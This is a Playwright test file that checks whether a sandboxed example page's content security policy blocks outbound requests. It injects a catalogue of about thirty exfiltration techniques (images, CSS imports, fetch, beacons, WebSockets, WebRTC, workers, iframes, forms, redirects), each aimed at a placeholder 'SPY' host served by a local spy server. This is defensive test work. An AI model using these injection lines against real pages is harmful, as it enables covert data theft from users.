import { expect, test } from '@playwright/test';
import {
  attack,
  attackTogether,
  expectTried,
  expectTriedOrStopped,
  html,
  openTarget,
  RUN,
  target,
} from './support/attack.ts';
import { type Spy, startSpy } from './support/spy.ts';

/** APIs by which an example could send data to another server; `SPY` is its address. */
const leaks: Readonly<Record<string, string>> = {
  'an image': "new Image().src = 'SPY/image?key=1';",
  'an image of a style': "document.body.style.background = 'url(SPY/background)';",
  'a style sheet': html('<link rel="stylesheet" href="SPY/sheet">'),
  'what a style sheet imports': html(
    '<style>@import url(SPY/import); body { cursor: url(SPY/cursor), auto; border-image: url(SPY/border); }</style>',
  ),
  'an image of SVG': html(
    '<svg><image href="SPY/svg"/><use href="SPY/use#a"/><filter><feImage href="SPY/fe"/></filter></svg>',
  ),
  'a source set': html(
    '<picture><source srcset="SPY/source 1x"><img srcset="SPY/set 1x"></picture><img srcset="SPY/set 1x">',
  ),
  'the icon and manifest of the page': html(
    '<link rel="icon" href="SPY/icon"><link rel="manifest" href="SPY/manifest">',
  ),
  'a prefetch': html('<link rel="prefetch" href="SPY/prefetch">'),
  'a preload': html(
    '<link rel="preload" as="image" href="SPY/preload"><link rel="modulepreload" href="SPY/module">',
  ),
  'rules of speculation': `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = '{"prefetch":[{"source":"list","urls":["SPY/speculation"]}]}'; document.head.append(rules);`,
  'a font': "await new FontFace('a', 'url(SPY/font)').load();",
  'sound and film': html(
    '<video src="SPY/video" poster="SPY/poster" autoplay></video><audio src="SPY/audio" autoplay></audio>',
  ),
  'an object': html('<object data="SPY/object"></object><embed src="SPY/embed">'),
  'a script':
    "const script = document.createElement('script'); script.src = 'SPY/script'; document.head.append(script);",
  'an imported module': 'await (0, eval)(\'import("SPY/module.js")\');',
  fetch: "await fetch('SPY/fetch');",
  'a request of the old kind':
    "const request = new XMLHttpRequest(); request.open('GET', 'SPY/xhr'); request.send();",
  'a beacon': "navigator.sendBeacon('SPY/beacon');",
  'a stream of events': "new EventSource('SPY/events');",
  'a web socket': "new WebSocket('SPY/socket'.replace('http', 'ws'));",
  'web transport': "new WebTransport('SPY/transport'.replace('http', 'https'));",
  'a worker': 'new Worker(URL.createObjectURL(new Blob([\'fetch("SPY/worker")\'])));',
  'the ping of a link':
    html('<a id="ping" href="#x" ping="SPY/ping">a</a>') +
    "document.getElementById('ping').click();",
  'a window': "window.open('SPY/window');",
  'a nested page': html('<iframe src="SPY/nested"></iframe>'),
  'an image of nested markup': html(
    `<iframe srcdoc="<img src='SPY/srcdoc'><link rel=stylesheet href='SPY/srcdoc.css'>"></iframe>`,
  ),
  'an image of a nested document of its own making':
    "const page = document.createElement('iframe'); page.src = URL.createObjectURL(new Blob(['<img src=SPY/blob>'], { type: 'text/html' })); document.body.append(page);",
  'an image of nested data': html('<iframe src="data:text/html,<img src=SPY/data>"></iframe>'),
  'the policy of a nested frame': html('<iframe csp="report-uri SPY/report" srcdoc="a"></iframe>'),
  'a talk between two browsers':
    "const talk = new RTCPeerConnection({ iceServers: [{ urls: 'SPY'.replace('http://', 'stun:') }] }); talk.createDataChannel('a'); await talk.setLocalDescription(await talk.createOffer());",
};

/** Navigations of the whole page: each is tried alone. */
const departures: Readonly<Record<string, string>> = {
  'a form': `${html('<form action="SPY/form" method="post"></form>')}document.forms[0].submit();`,
  'a refresh of the page': html('<meta http-equiv="refresh" content="0;url=SPY/refresh">'),
  'an address that it goes to itself': "window.location.href = 'SPY/self';",
  'the address of the page around it': "window.parent.location.href = 'SPY/parent';",
};

/** Requests that headless Chromium never sends, or not over HTTP: icons, speculation rules. */
const UNHEARD = /^\/(?:icon|manifest|speculation|report|transport)$/;

/** Paths that attacks request. */
const pathsOf = (attacks: Readonly<Record<string, string>>) =>
  [
    ...Object.values(attacks)
      .join()
      .matchAll(/SPY(\/[\w.]+)/g),
  ]
    .map(([, path = '']) => path)
    .filter((path) => !UNHEARD.test(path));

let spy: Spy;
/** Receives the same attacks from a page without a policy. */
let witness: Spy;

test.beforeAll(async () => {
  spy = await startSpy();
  witness = await startSpy();
});

test.afterAll(() => {
  spy.stop();
  witness.stop();
});

const withoutQuery = ({ requests }: Spy) => requests.map((path) => path.replace(/\?.*/, ''));

test('nothing leaves an example by any API that sends something from a page without its policy', async ({
  page,
  context,
}) => {
  test.setTimeout(180_000);
  await openTarget(page);
  const attacks = attackTogether(leaks);
  await attack(page, `await ${attacks.replaceAll('SPY', spy.origin)};`);
  await expectTried(page);

  // The same requests, sent later from a page without a policy, prove that those of the example had time.
  const unguarded = await context.newPage();
  await unguarded.goto(witness.origin);
  await unguarded.evaluate(attacks.replaceAll('SPY', witness.origin));
  const missing = () => {
    const received = withoutQuery(witness);
    return [...pathsOf(leaks), 'UDP'].filter((path) => !received.includes(path));
  };
  await expect.poll(missing, RUN).toEqual([]);
  expect.soft(spy.requests.splice(0), 'received from the example').toEqual([]);

  for (const [name, statements] of Object.entries(departures)) {
    await test.step(name, async () => {
      await attack(page, statements.replaceAll('SPY', spy.origin));
      await expectTriedOrStopped(page);
      await unguarded.goto(witness.origin);
      await unguarded.evaluate(
        `setTimeout(() => { ${statements} })`.replaceAll('SPY', witness.origin),
      );
      const [path] = pathsOf({ name: statements });
      await expect.poll(() => witness.requests, RUN).toContain(path);
      expect.soft(spy.requests.splice(0), `received by ${name}`).toEqual([]);
      expect.soft(page.url(), `the page after ${name}`).toContain(target.path);
    });
  }
});
